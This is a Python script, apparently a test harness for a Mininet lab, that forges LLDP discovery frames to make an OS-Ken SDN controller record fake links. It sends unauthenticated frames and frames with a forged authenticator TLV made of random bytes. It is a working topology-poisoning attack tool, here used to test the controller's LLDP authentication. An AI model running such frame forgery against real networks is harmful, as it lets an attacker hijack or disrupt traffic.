#!/usr/bin/env python3
"""LLDP frames a hostile subscriber forges to invent links (stdlib only, run
inside a Mininet host as root):

    python3 lldp_forge.py IFNAME ROUNDS INTERVAL DPID:PORT [DPID:PORT...]

Each round sends, for every claimed switch port (DPID in hex), the frame
OS-Ken's discovery sends (chassis id "dpid:%016x", the port as 32 bits, no
authenticator) and the same with an authenticator TLV in the controller's
place (its OUI, the time now, a nonce and 32 bytes that are no HMAC of any
key the forger lacks); then sleeps INTERVAL seconds (0: as fast as it
can). Prints "sent=N". Only ever sends on IFNAME, a Mininet host's own
interface.
"""
import os
import pathlib
import socket
import struct
import sys
import time

NEAREST_BRIDGE = bytes.fromhex("0180c200000e")
OUI = b"\x02\x5d\xb0"  # controller/topology/lldp/auth.py


def tlv(kind: int, value: bytes) -> bytes:
    return struct.pack("!H", kind << 9 | len(value)) + value


def frames(own_mac: bytes, dpid: int, port: int) -> list[bytes]:
    head = NEAREST_BRIDGE + own_mac + b"\x88\xcc"
    claim = (tlv(1, b"\x07" + f"dpid:{dpid:016x}".encode()) + tlv(2, b"\x02" + struct.pack(
        "!I", port)) + tlv(3, struct.pack("!H", 120)))
    signature = tlv(127, OUI + b"\x01" + struct.pack("!QQ", time.time_ns(),
                                                    int.from_bytes(os.urandom(8), "big"))
                    + os.urandom(32))
    return [head + claim + tlv(0, b""), head + claim + signature + tlv(0, b"")]


def main() -> None:
    ifname, rounds, interval = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
    claims = [(int(d, 16), int(p)) for d, p in (c.split(":") for c in sys.argv[4:])]
    own = bytes.fromhex(pathlib.Path(f"/sys/class/net/{ifname}/address").read_text()
                        .strip().replace(":", ""))
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    sock.bind((ifname, 0))
    sent = 0
    for _ in range(rounds):
        for dpid, port in claims:
            for frame in frames(own, dpid, port):
                sent += sock.send(frame) > 0
        if interval:
            time.sleep(interval)
    print(f"sent={sent}", flush=True)


if __name__ == "__main__":
    main()
